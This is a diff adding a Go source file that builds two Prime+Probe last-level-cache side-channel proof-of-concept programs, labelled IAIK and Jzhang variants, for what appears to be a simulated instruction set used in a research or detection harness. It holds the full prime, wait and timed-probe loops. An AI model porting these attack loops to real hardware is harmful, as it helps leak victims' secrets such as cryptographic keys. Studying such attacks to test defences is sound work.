@@ -1,0 +1,193 @@
+package attacks
+
+import "repro/internal/isa"
+
+// primeProbeBase is where the Prime+Probe PoCs place their private
+// priming buffer. Like evictionSetBase it is congruent to the victim's
+// buffer modulo the LLC set span, so set k is reachable at
+// primeProbeBase + k*LineSize + w*EvictionStride.
+const primeProbeBase uint64 = 0x5800_0000
+
+// PrimeProbeIAIK implements the classic per-set Prime+Probe loop: for
+// each monitored LLC set, fill every way with the attacker's own lines
+// (prime), yield to the victim, then re-access the same lines under
+// RDTSCP timing (probe). A slow probe means the victim displaced primed
+// lines from that set.
+func PrimeProbeIAIK(p Params) PoC {
+	p = p.withDefaults()
+	// The probe walks LLCWays lines; a single memory-latency eviction
+	// (~200 cycles) against LLCWays hits (~4 each) separates cleanly.
+	ppThreshold := int64(ppProbeThreshold)
+
+	b := isa.NewBuilder("PP-IAIK", AttackerCodeBase)
+	bufBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride
+	b.DataAt("prime", primeProbeBase, bufBytes, nil, false)
+	scratch := b.Bytes("scratch", 256, false)
+	evictions := b.Bytes("evictions", uint64(p.Lines)*8, false)
+
+	emitSetupNoise(b, scratch, 16, "setup", 0)
+
+	b.Mov(isa.R(isa.R7), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+	b.Mov(isa.R(isa.R2), isa.Imm(0)) // set index
+	b.Label("sets")
+
+	// Prime phase: fill all ways of set R2.
+	b.BeginAttack().
+		Label("prime").
+		Mov(isa.R(isa.R3), isa.Imm(0)).
+		Label("prloop").
+		Mov(isa.R(isa.R4), isa.R(isa.R3)).
+		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
+		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R5), isa.R(isa.R2)).
+		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
+		Shl(isa.R(isa.R5), isa.Imm(6)).
+		Add(isa.R(isa.R4), isa.R(isa.R5)).
+		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
+		Inc(isa.R(isa.R3)).
+		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
+		Jl("prloop").
+		EndAttack()
+
+	emitBusyWait(b, "wait", isa.R3, p.Wait)
+
+	// Probe phase: timed re-walk of the same ways.
+	b.BeginAttack().
+		Label("probe").
+		Rdtscp(isa.R8).
+		Mov(isa.R(isa.R3), isa.Imm(0)).
+		Label("pbloop").
+		Mov(isa.R(isa.R4), isa.R(isa.R3)).
+		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
+		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R5), isa.R(isa.R2)).
+		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
+		Shl(isa.R(isa.R5), isa.Imm(6)).
+		Add(isa.R(isa.R4), isa.R(isa.R5)).
+		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
+		Inc(isa.R(isa.R3)).
+		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
+		Jl("pbloop").
+		Rdtscp(isa.R9).
+		Sub(isa.R(isa.R9), isa.R(isa.R8)).
+		Cmp(isa.R(isa.R9), isa.Imm(ppThreshold)).
+		Jb("fastset").
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(evictions))).
+		Mov(isa.R(isa.R10), isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R10)).
+		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R10)).
+		EndAttack().
+		Label("fastset")
+
+	b.Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("sets")
+	b.Dec(isa.R(isa.R7)).
+		Jne("round")
+
+	emitResultScan(b, evictions, p.Lines, "post", 2)
+	b.Hlt()
+	return PoC{Name: "PP-IAIK", Family: FamilyPP, Program: b.MustBuild(), Victim: SetVictim(p)}
+}
+
+// PrimeProbeJzhang is the batched Prime+Probe variant: prime every
+// monitored set in one sweep, wait once, then probe every set in a
+// second sweep that records raw per-set latencies; a final pass
+// thresholds the latency buffer.
+func PrimeProbeJzhang(p Params) PoC {
+	p = p.withDefaults()
+	ppThreshold := int64(ppProbeThreshold)
+
+	b := isa.NewBuilder("PP-Jzhang", AttackerCodeBase)
+	bufBytes := uint64(p.Lines)*LineSize + uint64(LLCWays+1)*EvictionStride
+	b.DataAt("prime", primeProbeBase, bufBytes, nil, false)
+	scratch := b.Bytes("scratch", 384, false)
+	lat := b.Bytes("lat", uint64(p.Lines)*8, false)
+	score := b.Bytes("score", uint64(p.Lines)*8, false)
+
+	emitSetupNoise(b, scratch, 20, "boot", 2)
+
+	b.Mov(isa.R(isa.R9), isa.Imm(int64(p.Rounds)))
+	b.Label("epoch")
+
+	// Prime sweep over all sets and ways.
+	b.BeginAttack().
+		Label("primeall").
+		Mov(isa.R(isa.R2), isa.Imm(0)).
+		Label("ps_set").
+		Mov(isa.R(isa.R3), isa.Imm(0)).
+		Label("ps_way").
+		Mov(isa.R(isa.R4), isa.R(isa.R3)).
+		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
+		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R5), isa.R(isa.R2)).
+		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
+		Shl(isa.R(isa.R5), isa.Imm(6)).
+		Add(isa.R(isa.R4), isa.R(isa.R5)).
+		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
+		Inc(isa.R(isa.R3)).
+		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
+		Jl("ps_way").
+		Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("ps_set").
+		EndAttack()
+
+	emitBusyWait(b, "lull", isa.R3, p.Wait*2)
+
+	// Probe sweep: one timed walk per set, latencies recorded.
+	b.BeginAttack().
+		Label("probeall").
+		Mov(isa.R(isa.R2), isa.Imm(0)).
+		Label("pb_set").
+		Rdtscp(isa.R7).
+		Mov(isa.R(isa.R3), isa.Imm(0)).
+		Label("pb_way").
+		Mov(isa.R(isa.R4), isa.R(isa.R3)).
+		And(isa.R(isa.R4), isa.Imm(LLCWays-1)). // mask: the transient extra loop iteration must not touch a 9th congruent line
+		Mul(isa.R(isa.R4), isa.Imm(int64(EvictionStride))).
+		Mov(isa.R(isa.R5), isa.R(isa.R2)).
+		Add(isa.R(isa.R5), isa.Imm(MonitoredSetOffset)).
+		Shl(isa.R(isa.R5), isa.Imm(6)).
+		Add(isa.R(isa.R4), isa.R(isa.R5)).
+		Add(isa.R(isa.R4), isa.Imm(int64(primeProbeBase))).
+		Mov(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
+		Inc(isa.R(isa.R3)).
+		Cmp(isa.R(isa.R3), isa.Imm(int64(LLCWays))).
+		Jl("pb_way").
+		Rdtscp(isa.R8).
+		Sub(isa.R(isa.R8), isa.R(isa.R7)).
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(lat))).
+		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R8)).
+		Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("pb_set").
+		EndAttack()
+
+	// Threshold pass.
+	b.Mov(isa.R(isa.R2), isa.Imm(0)).
+		Label("rank").
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(lat))).
+		Mov(isa.R(isa.R8), isa.Mem(isa.R6, 0)).
+		Cmp(isa.R(isa.R8), isa.Imm(ppThreshold)).
+		Jb("fast").
+		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(score))).
+		Mov(isa.R(isa.R10), isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R10)).
+		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R10)).
+		Label("fast").
+		Inc(isa.R(isa.R2)).
+		Cmp(isa.R(isa.R2), isa.Imm(int64(p.Lines))).
+		Jl("rank")
+
+	b.Dec(isa.R(isa.R9)).
+		Jne("epoch")
+
+	emitResultScan(b, score, p.Lines, "post", 0)
+	b.Hlt()
+	return PoC{Name: "PP-Jzhang", Family: FamilyPP, Program: b.MustBuild(), Victim: SetVictim(p)}
+}
